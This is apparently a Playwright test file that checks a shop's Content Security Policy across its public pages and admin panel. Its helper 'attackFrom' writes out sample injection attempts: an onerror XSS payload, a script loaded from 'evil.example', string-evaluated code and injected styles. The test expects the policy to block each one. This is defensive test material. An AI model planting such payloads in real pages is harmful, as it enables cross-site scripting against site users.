import type { Page } from 'playwright-core'
import { panelSections } from '@smm/contracts/panel-url'
import { publicPages } from '../pages/pages.ts'
import { hydratePage } from '../build/hydrate-page.mjs'
import { goToPrices } from './browser/go-to-prices.ts'
import { openPage } from './browser/open-browser.ts'
import { openSection, signInOn } from './browser/panel-page.ts'
import { openVisitor, order } from './actors/visitor.ts'
import { useBrowser, useSharedShop } from './fixtures.ts'

const browser = useBrowser()
const product = useSharedShop()

const desktop = { width: 1280, height: 900 }

/** Records what the document's policy refuses, from its first byte on. */
async function openWatched() {
  const { page } = await openPage(browser, desktop)
  const refused: string[] = []
  await page.exposeFunction('noteRefused', (what: string) => void refused.push(what))
  await page.addInitScript(() =>
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile, sample }) => {
      const { noteRefused } = window as unknown as { noteRefused: (what: string) => void }
      noteRefused([location.pathname, violatedDirective, blockedURI, sourceFile, sample].join(' '))
    }),
  )
  return { page, refused }
}

/** Tries as an attacker who can write into the page; the names of the attempts that the policy lets pass. */
async function attackFrom(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const got: string[] = []
    const attempt = (name: string, run: () => void) => {
      try {
        run()
        got.push(name)
      } catch {
        // Refused, as it should be.
      }
    }
    const element = document.body.appendChild(document.createElement('div'))
    attempt('HTML from a text', () => (element.innerHTML = '<img src=x onerror="window.isStolen=1">'))
    attempt('a foreign script', () => (document.createElement('script').src = 'https://evil.example/x.js'))
    attempt('a script of the API', () => (document.createElement('script').src = '/api/orders'))
    attempt('code from a text', () => setTimeout('window.isStolen = 1'))
    const style = document.createElement('style')
    style.textContent = ':root { --stolen: 1 }'
    document.head.append(style)
    element.setAttribute('style', '--attribute: 1')
    const seen = (name: string) => getComputedStyle(element).getPropertyValue(name)
    if (seen('--stolen')) got.push('a style of its own')
    if (seen('--attribute')) got.push('a style attribute')
    return got
  })
}

it('every page, its chat awake, keeps to the policy of its document, and a page is left by a link', async () => {
  const { page, refused } = await openWatched()
  for (const [path] of publicPages) {
    await page.goto(product.url + path)
    await hydratePage(page)
  }
  await goToPrices(page, 'contentinfo')
  await page.goto(`${product.url}/nada`)
  expect(refused).toEqual([])
  await page.goto(product.url)
  expect(await attackFrom(page)).toEqual([])
  await page.context().close()
})

it('the panel keeps to it, its sheets and lists too, and asks for nothing once its user has left', async () => {
  const visitor = await openVisitor(product)
  await order(visitor)
  await visitor.card()
  visitor.close()
  const { page, refused } = await openWatched()
  await signInOn(page, product)
  for (const section of panelSections) {
    await openSection(page, product, section)
    await page.waitForLoadState('networkidle')
  }
  await openSection(page, product, 'pedidos')
  await page
    .getByRole('button', { name: /^Ver pedido/ })
    .first()
    .click()
  const sheet = page.getByRole('dialog')
  await sheet.waitFor()
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('hidden')
  await sheet.getByRole('button', { name: 'Fechar detalhes' }).click()
  await sheet.waitFor({ state: 'detached' })
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('visible')
  await page.getByRole('combobox', { name: 'Filtrar por status' }).selectOption({ label: 'Pago' })
  await page.waitForURL('**status=paid')
  expect(refused).toEqual([])
  expect(await attackFrom(page)).toEqual([])

  await openSection(page, product, 'pedidos')
  await page.getByRole('heading', { level: 1, name: 'Pedidos' }).waitFor()
  await page.waitForLoadState('networkidle')
  const asked: string[] = []
  const answered: number[] = []
  page.on('request', (request) => {
    if (request.url().includes('/api/')) asked.push(`${request.method()} ${new URL(request.url()).pathname}`)
  })
  page.on('response', (response) => {
    if (response.url().includes('/api/')) answered.push(response.status())
  })
  await page.getByRole('button', { name: 'Sair' }).click()
  await page.getByLabel('Usuário').waitFor()
  await page.waitForLoadState('networkidle')
  expect(asked[0]).toBe('POST /api/admin/logout')
  expect(answered.filter((status) => status >= 400)).toEqual([])
  await page.context().close()
})
